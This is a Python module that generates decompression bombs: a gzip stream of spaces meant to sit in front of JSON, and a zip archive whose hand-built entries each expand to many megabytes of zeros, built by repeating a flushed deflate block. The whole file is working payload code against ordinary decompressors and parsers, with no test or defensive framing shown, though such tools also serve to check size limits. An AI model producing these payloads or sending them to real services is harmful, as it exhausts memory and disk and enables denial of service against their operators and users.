"""Small files that decompress to very much, made without compressing all of it."""

import io
import zipfile
import zlib
from collections.abc import Iterable

BLOCK_BYTES = 1_000_000
GZIP_HEADER = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"


def deflated(block: bytes, count: int) -> bytes:
    """A block, so many times. After a full flush, compressed data do not refer to what was before."""
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    packed = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    return packed * count + packer.flush()


def checksum(block: bytes, count: int) -> int:
    found = 0
    for _ in range(count):
        found = zlib.crc32(block, found)
    return found


def gzip_bomb(megabytes: int) -> bytes:
    """Of spaces, which may stand before any JSON."""
    block = b" " * BLOCK_BYTES
    size = megabytes * BLOCK_BYTES
    trailer = checksum(block, megabytes).to_bytes(4, "little") + size.to_bytes(4, "little")
    return GZIP_HEADER + deflated(block, megabytes) + trailer


def zip_bomb(names: Iterable[str], megabytes: int) -> bytes:
    """A zip whose files have so many zeros each, and state it."""
    block, written = bytes(BLOCK_BYTES), io.BytesIO()
    packed, crc = deflated(block, megabytes), checksum(block, megabytes)
    with zipfile.ZipFile(written, "w") as archive:
        for name in names:
            entry = zipfile.ZipInfo(name)
            entry.compress_type, entry.header_offset = zipfile.ZIP_DEFLATED, written.seek(0, io.SEEK_CUR)
            entry.CRC, entry.file_size, entry.compress_size = crc, megabytes * BLOCK_BYTES, len(packed)
            written.write(entry.FileHeader() + packed)
            archive.filelist.append(entry)
        archive.start_dir = written.seek(0, io.SEEK_CUR)
        archive.comment = b"made by hand"  # so that the directory is written
    return written.getvalue()
